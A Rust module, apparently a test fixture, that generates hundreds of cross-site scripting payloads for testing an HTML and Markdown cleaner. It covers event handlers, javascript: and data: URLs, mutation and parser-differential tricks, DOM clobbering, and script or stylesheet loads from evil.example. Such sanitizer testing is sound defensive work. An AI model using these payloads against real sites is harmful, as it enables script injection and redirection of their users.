//! Attacks on the HTML cleaner, generated from a table: families of attacks × contexts × spellings,
//! and parser tricks that do not fit the table. Each calls `alert(1)` if it works.

/// One attack and its origin in the table, so that a failure names it.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct Payload {
    pub name: String,
    pub text: String,
}

/// Each way to run a script or leave the page, on its own.
const FAMILIES: &[(&str, &str)] = &[
    ("script", "<script>alert(1)</script>"),
    ("script-src", "<script src=\"https://evil.example/x.js\"></script>"),
    ("img-error", "<img src=x onerror=\"alert(1)\">"),
    ("img-load", "<img src=\"https://pics.example/x.png\" onload=\"alert(1)\">"),
    ("svg-load", "<svg onload=\"alert(1)\"></svg>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-animate", "<svg><animate onbegin=\"alert(1)\" attributeName=x dur=1s></svg>"),
    ("svg-link", "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>"),
    ("svg-set", "<svg><a><set attributeName=href to=\"javascript:alert(1)\"></set><text y=20>x</text></a></svg>"),
    (
        "svg-use",
        "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x\"></use></svg>",
    ),
    ("svg-foreign", "<svg><foreignObject><body onload=\"alert(1)\"></foreignObject></svg>"),
    ("math-link", "<math href=\"javascript:alert(1)\"><mi>x</mi></math>"),
    ("body-load", "<body onload=\"alert(1)\">"),
    ("body-pageshow", "<body onpageshow=\"alert(1)\">"),
    ("frame", "<iframe src=\"javascript:alert(1)\"></iframe>"),
    ("frame-doc", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"),
    ("frame-load", "<iframe src=\"about:blank\" onload=\"alert(1)\"></iframe>"),
    ("frameset", "<frameset onload=\"alert(1)\"><frame></frameset>"),
    ("object", "<object data=\"javascript:alert(1)\"></object>"),
    ("object-error", "<object data=x onerror=\"alert(1)\"></object>"),
    ("embed", "<embed src=\"javascript:alert(1)\">"),
    ("link-script", "<a href=\"javascript:alert(1)\">x</a>"),
    ("link-data", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>"),
    ("link-vbscript", "<a href=\"vbscript:alert(1)\">x</a>"),
    ("link-relative", "<a href=\"//evil.example/\">x</a>"),
    ("link-click", "<a href=\"https://example.com/\" onclick=\"alert(1)\">x</a>"),
    ("area", "<map name=m><area shape=default href=\"javascript:alert(1)\"></map><img usemap=#m src=x>"),
    ("form", "<form action=\"javascript:alert(1)\"><button>x</button></form>"),
    ("form-elsewhere", "<form action=\"https://evil.example/\"><button>x</button></form>"),
    ("form-action", "<form><button formaction=\"javascript:alert(1)\">x</button></form>"),
    ("input-focus", "<input autofocus onfocus=\"alert(1)\">"),
    ("select-focus", "<select autofocus onfocus=\"alert(1)\"></select>"),
    ("textarea-focus", "<textarea autofocus onfocus=\"alert(1)\"></textarea>"),
    ("details", "<details open ontoggle=\"alert(1)\"><summary>x</summary></details>"),
    ("video-error", "<video src=x onerror=\"alert(1)\"></video>"),
    ("source-error", "<video><source src=x onerror=\"alert(1)\"></video>"),
    ("audio-error", "<audio src=x onerror=\"alert(1)\"></audio>"),
    ("hover", "<p onmouseover=\"alert(1)\">x</p>"),
    ("click", "<div onclick=\"alert(1)\">x</div>"),
    ("focus", "<span tabindex=1 onfocus=\"alert(1)\">x</span>"),
    ("animation", "<style>@keyframes k{}</style><div style=\"animation-name:k\" onanimationstart=\"alert(1)\">x</div>"),
    ("refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">"),
    ("base", "<base href=\"https://evil.example/\"><a href=\"x\">x</a>"),
    ("stylesheet", "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">"),
    ("style-import", "<style>@import \"https://evil.example/x.css\";</style>"),
    ("style-url", "<div style=\"background:url(https://evil.example/x)\">x</div>"),
    ("template", "<template shadowrootmode=open><img src=x onerror=\"alert(1)\"></template>"),
    (
        "cell-style",
        "<table><tr><td style=\"text-align:left;background:url(https://evil.example/x)\" align=\"left\" onclick=\"alert(1)\">x</td></tr></table>",
    ),
    (
        "cell-span",
        "<table><tr><td colspan=\"2\" onmouseover=\"alert(1)\" background=\"https://evil.example/x\">x</td></tr></table>",
    ),
    (
        "list-start",
        "<ol start=\"3\" onclick=\"alert(1)\" style=\"list-style:url(https://evil.example/x)\"><li value=4>x</li></ol>",
    ),
    (
        "figure",
        "<figure onclick=\"alert(1)\"><img src=\"https://pics.example/x.png\" onload=\"alert(1)\"><figcaption>x</figcaption></figure>",
    ),
    (
        "quote-cite",
        "<q cite=\"javascript:alert(1)\" onclick=\"alert(1)\">x</q><del cite=\"https://evil.example/\">x</del>",
    ),
    ("terms", "<dl><dt onclick=\"alert(1)\">x</dt><dd id=location onmouseover=\"alert(1)\">x</dd></dl>"),
    (
        "raised",
        "<sup onclick=\"alert(1)\">1</sup><sub style=\"position:fixed\" onfocus=\"alert(1)\" tabindex=1>2</sub>",
    ),
    ("ruby", "<ruby onclick=\"alert(1)\">x<rt><img src=x onerror=\"alert(1)\"></rt></ruby>"),
    ("box", "<input type=\"checkbox\" onchange=\"alert(1)\" onclick=\"alert(1)\" autofocus onfocus=\"alert(1)\">"),
    ("rule", "<hr onclick=\"alert(1)\" style=\"background:url(https://evil.example/x)\">"),
    ("direction", "<p dir=\"rtl\" lang='en\" onclick=\"alert(1)'>x</p>"),
    ("bold", "<b onclick=\"alert(1)\">x</b><strike onmouseover=\"alert(1)\">y</strike>"),
];

/// The contexts of an attack; `{}` is its place.
const CONTEXTS: [(&str, &str); 9] = [
    ("alone", "{}"),
    ("paragraph", "<p>Text {} and more.</p>"),
    ("attribute", "<a title=\"{}\" href=\"https://example.com/\">x</a>"),
    ("broken-attribute", "<a title=\"x\">{}\">x</a>"),
    ("table", "<table><tr><td>{}</td></tr>{}</table>"),
    ("code", "<pre><code>{}</code></pre>{}"),
    ("comment", "<!-- > {} --!> {} -->"),
    ("raw-text", "<title>{}</title><noscript>{}</noscript><xmp>{}</xmp>"),
    ("foreign", "<svg><desc>{}</desc></svg><math><mtext>{}</mtext></math>"),
];

type Spell = fn(&str) -> String;

/// How a family is spelt.
const SPELLINGS: [(&str, Spell); 4] = [
    ("plain", str::to_owned),
    // Names in mixed case, quotes gone, slashes for spaces.
    ("mixed", |html| mixed_case(html).replace('"', "").replace("x on", "x/on")),
    // A scheme hidden in entities and a tab, a tag cut by a comment.
    ("entities", |html| html.replace("javascript:", "&#x6A;ava&Tab;script&colon;").replace("alert", "&#97;lert")),
    // A tag within a tag, against a cleaner that makes only one pass.
    ("doubled", |html| html.replacen('<', "<scr<script>ipt><", 1).replacen("<script", "<scr<script>ipt", 1)),
];

fn mixed_case(html: &str) -> String {
    let mut in_tag = false;
    let flip = |c: char, at: usize| if at.is_multiple_of(2) { c.to_ascii_uppercase() } else { c };
    html.char_indices()
        .map(|(at, c)| match c {
            '<' => {
                in_tag = true;
                c
            }
            ' ' | '>' => {
                in_tag = false;
                c
            }
            c if in_tag => flip(c, at),
            c => c,
        })
        .collect()
}

/// Attacks that rely on differences between parsers, and others that fit no family.
const TRICKS: [&str; 54] = [
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><table><mglyph><style><math>CLICKME</style><img src=x onerror=alert(1)></math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><p><style><g title=\"</style><img src onerror=alert(1)>\">",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=alert(1)//\"></svg>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
    "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<style><p title=\"</style><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<table><caption><select><img src=x onerror=alert(1)></table>",
    "<div><svg><desc><td><style><!--</style><img title=\"--><img src=x onerror=alert(1)>\">",
    "<a><table><td><a><table></table><img src=x onerror=alert(1)></a></td></table></a>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img/src/onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<<script>alert(1);//<</script>",
    "<script/x>alert(1)</script>",
    "<script\u{0}>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<img src=x \u{0}onerror=alert(1)>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script&colon;alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"javascript&#0000058alert(1)\">x</a>",
    "<a href=\"http://x:javascript:alert(1)@evil.example:/\">x</a>",
    "<a href=\"https://example.com/\" href=\"javascript:alert(1)\">x</a>",
    "<a href=javascript&colon;alert&lpar;1&rpar;>x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+\">",
    "<img src=\"javascript:alert(1)\">",
    "<img srcset=\"x 1x, javascript:alert(1) 2x\" src=x onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<?xml version=\"1.0\"?><?import namespace=t implementation=x><script>alert(1)</script>",
    "<!DOCTYPE html SYSTEM \"https://evil.example/x\"><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<custom-element onpointerenter=alert(1) tabindex=0 onfocus=alert(1)>x</custom-element>",
    "<div contenteditable onbeforeinput=alert(1) onfocus=alert(1) tabindex=0>x</div>",
];

/// Names that scripts of a page look for, taken over by elements.
const CLOBBERED: [&str; 9] = [
    "location",
    "document",
    "getElementById",
    "config",
    "attributes",
    "parentNode",
    "cookie",
    "__proto__",
    "defaultView",
];

/// What the linking of bare URLs could be led to write.
const LINKS: [&str; 12] = [
    "https://example.com/\"onmouseover=\"alert(1)",
    "https://example.com/'onmouseover='alert(1)",
    "https://example.com/&quot;onmouseover=&quot;alert(1)",
    "https://example.com/<img src=x onerror=alert(1)>",
    "https://example.com/&lt;img src=x onerror=alert(1)&gt;",
    "https://example.com/`onmouseover=`alert(1)",
    "javascript://example.com/%0aalert(1)",
    "javascript:https://example.com/%0aalert(1)",
    "data:https://example.com/,<script>alert(1)</script>",
    "<a title='https://example.com/ onclick=alert(1)'>x</a>",
    "<p title=\"https://example.com/\">https://example.com/\u{202e}<b onclick=alert(1)></p>",
    "https://example.com/\u{0}\"><script>alert(1)</script>",
];

/// As a person would write them in Markdown.
const MARKDOWN: &[&str] = &[
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](https://example.com \"onmouseover=alert(1)\")",
    "[x](https://example.com '\"onmouseover=\"alert(1)')",
    "![x](x\"onerror=\"alert(1))",
    "![x](javascript:alert(1))",
    "![x\"onerror=\"alert(1)](x)",
    "<javascript:alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "```\n<script>alert(1)</script>\n```\n<script>alert(1)</script>",
    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> ~~[x](javascript:alert(1))~~ |",
    "# location\n\n## content-location\n\n[x](#location) [x](#javascript:alert(1))",
    "x[^location] y[^\"onclick=alert(1)]\n\n[^location]: <img src=x onerror=alert(1)>\n[^\"onclick=alert(1)]: [x](javascript:alert(1))",
    "- [x] <input type=checkbox onclick=alert(1)>\n- [ ] [x](javascript:alert(1))",
];

/// All of them in HTML, each once.
pub fn html() -> Vec<Payload> {
    let mut all = Vec::new();
    let mut add = |name: String, text: String| all.push(Payload { name, text });
    for (family, html) in FAMILIES.iter().copied() {
        for (context, around) in CONTEXTS {
            for (spelling, spell) in SPELLINGS {
                // Every family in every context, and every spelling of it alone or in a paragraph.
                if spelling == "plain" || ["alone", "paragraph"].contains(&context) {
                    add(format!("{family} in {context}, {spelling}"), around.replace("{}", &spell(html)));
                }
            }
        }
    }
    for (nth, trick) in TRICKS.iter().enumerate() {
        add(format!("trick {nth}"), (*trick).to_owned());
        add(format!("trick {nth} in a paragraph"), format!("<p>Text {trick} and more.</p>"));
    }
    for name in CLOBBERED {
        add(
            format!("clobbering {name}"),
            format!("<form id={name}><input name={name}></form><a id={name} name={name}>x</a>"),
        );
        add(
            format!("clobbering {name} twice"),
            format!("<div id={name}>x</div><span id={name}>x</span><img name={name}>"),
        );
        add(
            format!("clobbering {name} by places"),
            format!(
                "<h2 id={name}>{name}</h2><h3>{name}</h3><a name={name} href=\"#{name}\">x</a><li id={name}>x</li>"
            ),
        );
    }
    for (nth, link) in LINKS.iter().enumerate() {
        add(format!("link {nth}"), (*link).to_owned());
        add(format!("link {nth} in a paragraph"), format!("<p>See {link} now.</p>"));
    }
    all.sort();
    all.dedup_by(|one, other| one.text == other.text);
    all
}

/// All of them in Markdown.
pub fn markdown() -> Vec<Payload> {
    let of = |(nth, text): (usize, &&str)| Payload { name: format!("markdown {nth}"), text: (*text).to_owned() };
    MARKDOWN.iter().enumerate().map(of).collect()
}
